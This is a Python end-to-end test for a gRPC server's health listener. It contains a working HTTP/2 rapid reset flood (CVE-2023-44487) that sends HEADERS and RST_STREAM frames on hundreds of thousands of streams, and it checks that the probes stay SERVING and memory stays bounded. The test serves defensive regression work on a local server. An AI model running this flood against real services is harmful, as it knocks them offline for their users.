"""A rapid reset (CVE-2023-44487) on the plaintext health-only listener: a peer opens a stream (HEADERS) and
resets it (RST_STREAM) at once, again and again, on one connection. Each reset stream was a call queued in
gRPC's server until the server took it; the queue passed gRPC's bound (1,000 calls) and gRPC answered the
probes' own Checks CANCELLED at random (14 of 100 in 10 s), and the worker kept +78 MB. That listener needs
no certificate: anyone on the probes' network could make a pod's probes fail. Its streams not yet freed now
count against the connection's 100 (gRPC's overload protection, decision 0135).

The attacker is raw HTTP/2 over a socket (preface, SETTINGS and its ACK, then HEADERS with literal HPACK
fields and RST_STREAM CANCEL per stream); the probe is grpc's own client on another connection.
"""

from __future__ import annotations

import struct
import threading
import time
from collections import Counter
from pathlib import Path

import grpc
import pytest
from grpc_health.v1 import health_pb2, health_pb2_grpc

from tests.support.http2 import CANCEL, END_HEADERS, HEADERS, RST_STREAM, frame, grpc_headers, opened
from tests.support.serve_process import free_port, start_serve

pytestmark = [pytest.mark.e2e, pytest.mark.integration]

FLOOD_SECONDS = 5.0
MAX_STREAMS = 400_000  # the flood's own bound, whatever the machine's speed
GROWTH_KB = 40_000  # before: +78 MB in 10 s; with the protection: ~+12 MB


def _rss_kb(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    raise AssertionError("no VmRSS")


def _rapid_reset(address: str, until: float) -> int:
    """HEADERS then RST_STREAM on new streams of one connection until `until`; how many streams."""
    headers = grpc_headers("/grpc.health.v1.Health/Check", address)
    stream = 1
    with opened(address) as sock:
        sock.setblocking(False)
        while time.monotonic() < until and stream // 2 < MAX_STREAMS:
            batch = b"".join(
                frame(HEADERS, END_HEADERS, n, headers) + frame(RST_STREAM, 0, n, struct.pack(">I", CANCEL))
                for n in range(stream, stream + 200, 2)
            )
            stream += 200
            sock.setblocking(True)
            sock.sendall(batch)
            sock.setblocking(False)
            try:  # what the server says (its pings, its refusals) is read and dropped
                while sock.recv(1 << 20):
                    pass
            except BlockingIOError:
                pass
    return stream // 2


def test_a_rapid_reset_on_the_health_listener_fails_no_probe(tmp_path: Path) -> None:
    """A probe checking every 50 ms on its own connection while one connection resets streams for
    FLOOD_SECONDS: every Check SERVING, the worker grown by less than GROWTH_KB."""
    health = f"127.0.0.1:{free_port()}"
    serving = start_serve(tmp_path / "var", {"SESAME_HEALTH_ADDR": health})
    (worker,) = serving.workers()
    answers: Counter[str] = Counter()
    stop = threading.Event()

    def probe() -> None:
        with grpc.insecure_channel(health) as channel:
            check = health_pb2_grpc.HealthStub(channel).Check
            while not stop.is_set():
                try:
                    status = check(health_pb2.HealthCheckRequest(), timeout=5).status
                    answers[health_pb2.HealthCheckResponse.ServingStatus.Name(status)] += 1
                except grpc.RpcError as refused:
                    answers[f"{refused.code().name}: {refused.details()}"] += 1
                time.sleep(0.05)

    prober = threading.Thread(target=probe)
    try:
        before = _rss_kb(worker)
        prober.start()
        streams = _rapid_reset(health, time.monotonic() + FLOOD_SECONDS)
        grown = _rss_kb(worker) - before
    finally:
        stop.set()
        prober.join(timeout=10)
        serving.process.terminate()
        serving.process.wait(timeout=30)
    assert streams > 10_000, f"only {streams} streams sent: the flood did not flood"
    assert set(answers) == {"SERVING"}, f"{answers} ({streams} streams reset)"
    assert answers["SERVING"] >= 5
    assert grown < GROWTH_KB, f"+{grown} kB ({streams} streams reset)"
